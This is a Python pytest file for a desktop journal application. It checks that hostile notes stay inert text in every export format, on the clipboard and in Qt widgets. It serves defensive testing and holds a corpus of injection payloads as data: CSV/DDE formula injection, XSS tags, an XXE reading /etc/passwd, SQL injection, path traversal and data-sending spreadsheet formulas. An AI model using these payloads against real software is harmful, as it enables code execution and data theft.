"""Does hostile text in notes and names stay text: in every form of the log, on the clipboard, in every widget?"""

from __future__ import annotations

import csv
import io
import json
import re
import socket
import zipfile
import zlib
from contextlib import closing
from datetime import timedelta
from html.parser import HTMLParser
from itertools import product
from typing import TYPE_CHECKING

import pytest
from openpyxl import load_workbook
from PySide6 import QtGui
from PySide6.QtCore import Qt
from PySide6.QtWidgets import QApplication, QComboBox, QLabel, QLineEdit, QPlainTextEdit, QTableView, QWidget

from core.journal.acts import name_layer, write_note
from core.journal.entry import Stamp
from core.journal.log_choice import LogChoice
from core.market.snapshot import Ages
from db.connection import connect_reader, connect_writer
from db.exports.csv_log import exact_of
from db.exports.formats import FILES, LogFormat, load_log, written
from db.exports.report import document
from db.journal_store import append, load_book
from db.playbooks import load_playbook
from gui.log.pane import log_tsv
from gui.report.pdf import pdf_of
from tests.gui.market_files import NOW, filled_journal
from tests.gui.opened import WAIT_MS, opened, options_of

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from pytestqt.qtbot import QtBot

    from gui.app import Application

SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
STARTS = ("", " ", "\t", "\r", "\n", "'", "''", '"', ";", ",", "|", "a;", 'a"', "a\r\n", "a,  ")
CALLS = ("1+1", "cmd|'/c calc'!A0", "SUM(A1:A9)")
FORMULAS = tuple(f"{start}{sign}{call}" for start, sign, call in product(STARTS, SIGNS, CALLS))
"""360 texts that a spreadsheet would run, or would after another program split a cell in two."""
LINKS = (
    '=HYPERLINK("http://127.0.0.1:{port}/a","paid")',
    '=WEBSERVICE("http://127.0.0.1:{port}/b")',
    '=IMAGE("http://127.0.0.1:{port}/c")',
    '=IMPORTXML(CONCAT("http://127.0.0.1:{port}/d?v=",A1),"//a")',
    "http://127.0.0.1:{port}/e",
    "external:\\\\127.0.0.1\\share\\book.xlsx",
    "internal:Sheet1!A1",
    "mailto:a@b.c",
    "file:///etc/passwd",
)
MARKUP = (
    "<script>fetch('http://127.0.0.1:{port}/f')</script>",
    "<img src=http://127.0.0.1:{port}/g>",
    '<img src="file:///etc/passwd">',
    "<svg onload=alert(1)>",
    "</style><script>alert(1)</script>",
    "</td></tr></table><h1>gone</h1>",
    "</title><b>x</b>",
    "--><b>x</b><!--",
    '" onmouseover="alert(1)',
    "' onclick='alert(1)",
    "<a href='javascript:alert(1)'>click</a>",
    "<iframe src=http://127.0.0.1:{port}/h></iframe>",
    "<meta http-equiv=refresh content='0;url=http://127.0.0.1:{port}/i'>",
    "<link rel=stylesheet href=http://127.0.0.1:{port}/j>",
    "<table><tr><td>qt.io</table>.evil.com",
    "<qt><img src=http://127.0.0.1:{port}/k></qt>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;script&gt;",
    "&#60;b&#62;",
    "]]><b>x</b>",
    "{{7*7}} ${{7*7}} #{{7*7}}",
    "[pay](http://127.0.0.1:{port}/l)",
    "![x](http://127.0.0.1:{port}/m)",
    "| a | b |\n| --- | --- |",
    "# heading",
    "```\ncode",
    "\u202egnp.exe",
    "\u200b\u2060\ufeff",
    "\x01\x02\x1b[31mred",
    "\U0001f4c8 \u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "a" * 3000,
    "'; DROP TABLE journal_entry; --",
    "%s %n %d {0} {note}",
    "../../../etc/passwd",
)
NAMES = ("<b>x</b><img src=//127.0.0.1/n>", "=1+1", "</td><script>alert(1)</script>", "a;=cmd|'/c calc'!A0")


class Listener:
    """A port of this computer that notes whoever calls."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self._socket.setblocking(False)
        self.port = self._socket.getsockname()[1]

    def calls(self) -> int:
        found = 0
        while True:
            try:
                self._socket.accept()[0].close()
            except BlockingIOError:
                return found
            found += 1

    def close(self) -> None:
        self._socket.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    with closing(Listener()) as found:
        yield found


@pytest.fixture
def corpus(listener: Listener) -> tuple[str, ...]:
    found = tuple(text.replace("{port}", str(listener.port)) for text in (*FORMULAS, *LINKS, *MARKUP))
    assert len(found) >= 400
    return found


@pytest.fixture
def journal(tmp_path: Path, corpus: tuple[str, ...]) -> Path:
    """A journal with a market, every text of the corpus as a note, and layers that have hostile names."""
    path = filled_journal(tmp_path / "journal.db")
    with closing(connect_writer(path)) as connection:
        book, at = load_book(connection), NOW - timedelta(days=1)
        drafts = [write_note(book, text=text, layer=1 + number % 4, at=at) for number, text in enumerate(corpus)]
        drafts += [name_layer(book, number=number, name=name, at=at) for number, name in enumerate(NAMES, start=1)]
        append(connection, book, drafts, [Stamp()] * len(drafts), NOW)
    return path


@pytest.fixture
def forms(journal: Path) -> dict[LogFormat, str | bytes]:
    """The log in every form that is written, and painted as PDF."""
    with closing(connect_reader(journal)) as connection:
        found: dict[LogFormat, str | bytes] = {}
        for form in FILES:
            log = load_log(connection, journal.name, LogChoice(), form, (load_playbook(), Ages()), NOW)
            is_pdf = form in (LogFormat.PDF, LogFormat.PDF_FULL)
            full = form is LogFormat.PDF_FULL
            found[form] = (
                pdf_of(document(log, is_full=full), is_full=full) if is_pdf else written(log, form, connection)
            )
    return found


def test_no_form_of_the_log_holds_anything_that_runs_or_loads(
    qapp: QApplication, forms: dict[LogFormat, str | bytes], corpus: tuple[str, ...], listener: Listener
) -> None:
    checks = {
        LogFormat.CSV: check_csv,
        LogFormat.CSV_SHEET: check_sheet_csv,
        LogFormat.JSON: check_json,
        LogFormat.XLSX: check_xlsx,
        LogFormat.HTML: check_html,
        LogFormat.MARKDOWN: check_markdown,
        LogFormat.PDF: check_pdf,
        LogFormat.PDF_FULL: check_pdf,
    }
    for form, check in checks.items():
        check(forms[form], corpus)
    sheet, exact = forms[LogFormat.CSV_SHEET], forms[LogFormat.CSV]
    assert isinstance(sheet, str)
    assert exact_of(sheet) == exact
    assert listener.calls() == 0


def notes_of(text: str | bytes) -> list[str]:
    assert isinstance(text, str)
    rows = csv.DictReader(io.StringIO(text, newline=""))
    return [row["note"] for row in rows if row["kind"] == "note_written"]


def check_csv(text: str | bytes, corpus: tuple[str, ...]) -> None:
    assert notes_of(text) == list(corpus)


def check_sheet_csv(text: str | bytes, corpus: tuple[str, ...]) -> None:
    """No piece of a cell begins like a formula, wherever another program may cut it."""
    assert isinstance(text, str)
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            for piece in re.split(r"[;,\t\r\n|\"]", cell):
                is_number = re.fullmatch(r"-?\d+(\.\d+)?", cell) is not None
                assert is_number or not piece.lstrip(" ").startswith(SIGNS), cell


def check_json(text: str | bytes, corpus: tuple[str, ...]) -> None:
    rows = json.loads(text)["rows"]
    assert [row["note"] for row in rows if row["kind"] == "note_written"] == list(corpus)
    assert isinstance(text, str)
    assert text.isascii()


def check_xlsx(data: str | bytes, corpus: tuple[str, ...]) -> None:
    assert isinstance(data, bytes)
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert "f" not in {cell.data_type for cell in cells}
    assert not any(cell.hyperlink for cell in cells)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            part = archive.read(name)
            assert b"<f>" not in part
            assert b"<f " not in part
            assert not re.search(rb"<hyperlink\b|/hyperlink\"", part), name
            assert b'TargetMode="External"' not in part


class _Tags(HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.texts: set[str] = set()
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        self.texts.add(data)


def check_html(text: str | bytes, corpus: tuple[str, ...]) -> None:
    assert isinstance(text, str)
    found = _Tags(text)
    assert not found.tags & {"script", "img", "a", "iframe", "link", "b", "qt", "object", "form", "base"}
    assert not {name for name in found.attributes if name.startswith("on") or name in {"src", "href", "action"}}
    missing = [note for note in corpus if note.strip() and note not in found.texts]
    assert missing == []


def check_markdown(text: str | bytes, corpus: tuple[str, ...]) -> None:
    assert isinstance(text, str)
    for line in text.splitlines():
        if line.startswith("| "):
            bare = line.replace("**", "")
            assert not re.search(r"(?<!\\)[<>\[\]`!#~]", bare), line
            assert not re.search(r"https?:|www\.", bare), line


def check_pdf(data: str | bytes, corpus: tuple[str, ...]) -> None:
    """No action, link, script or attachment, in the plain objects or in the packed ones."""
    assert isinstance(data, bytes)
    packed = [_unpacked(part) for part in re.findall(rb"stream\r?\n(.*?)endstream", data, re.DOTALL)]
    for word in (b"/URI", b"/JavaScript", b"/JS ", b"/Launch", b"/Link", b"/OpenAction", b"/GoToR"):
        assert word not in re.sub(rb"stream\r?\n.*?endstream", b"", data, flags=re.DOTALL), word
        assert not any(word in part for part in packed), word


def _unpacked(part: bytes) -> bytes:
    try:
        return zlib.decompress(part)
    except zlib.error:
        return b""


def test_what_is_copied_from_the_window_runs_nowhere(
    qtbot: QtBot, journal: Path, tmp_path: Path, corpus: tuple[str, ...]
) -> None:
    with opened(qtbot, options_of(tmp_path, journal)) as application:
        text = log_tsv(application.context.the_store.log, is_simulated=False)
    rows = list(csv.reader(io.StringIO(text, newline=""), dialect="excel-tab"))
    assert sum(row[3] == "note_written" for row in rows) == len(corpus)
    cells = [cell for row in rows for cell in row if not re.fullmatch(r"-?\d+(\.\d+)?", cell)]
    assert not [cell for cell in cells if cell.lstrip(" ").startswith(SIGNS)]


def test_every_widget_shows_hostile_text_as_text(
    qtbot: QtBot, journal: Path, tmp_path: Path, listener: Listener
) -> None:
    with opened(qtbot, options_of(tmp_path, journal)) as application:
        exporting = application.context.menus.exporting
        exporting.ask()
        assert exporting.dialog is not None
        for number in range(application.window.tabs.count()):
            application.window.tabs.setCurrentIndex(number)
            qtbot.wait_until(lambda: not application.window.isHidden(), timeout=WAIT_MS)
            application.window.grab()
        widgets = QApplication.allWidgets()
        shown = [problem for widget in widgets for problem in problems_of(widget)]
        assert len(widgets) > 100
        assert shown == []
        assert tooltips_of(application) == []
        exporting.dialog.close()
    assert listener.calls() == 0


def problems_of(widget: QWidget) -> list[str]:
    """Return what of a widget would read markup, where it holds some."""
    found = []
    if isinstance(widget, QLabel) and widget.textFormat() != Qt.TextFormat.PlainText:
        found += [f"label {widget.text()!r} reads markup"] if QtGui.Qt.mightBeRichText(widget.text()) else []
    if not isinstance(widget, QLabel | QLineEdit | QPlainTextEdit | QComboBox) and hasattr(widget, "toHtml"):
        found.append(f"{type(widget).__name__} reads markup")
    found += _in_tooltip(widget.toolTip())
    return found


def _in_tooltip(tip: str) -> list[str]:
    """Return what is wrong with a tooltip, which Qt reads as markup: only our frame and line breaks may be any."""
    if not QtGui.Qt.mightBeRichText(tip):
        return []
    inner = tip.removeprefix("<qt>").removesuffix("</qt>").replace("<br>", "")
    return [f"tooltip {tip!r}"] if "<" in inner else []


def tooltips_of(application: Application) -> list[str]:
    """Return what is wrong with the tooltips of every cell of every table."""
    found = []
    for view in application.window.findChildren(QTableView):
        model = view.model()
        for row, column in product(range(model.rowCount()), range(model.columnCount())):
            tip = model.index(row, column).data(Qt.ItemDataRole.ToolTipRole)
            found += _in_tooltip(tip or "")
    return found
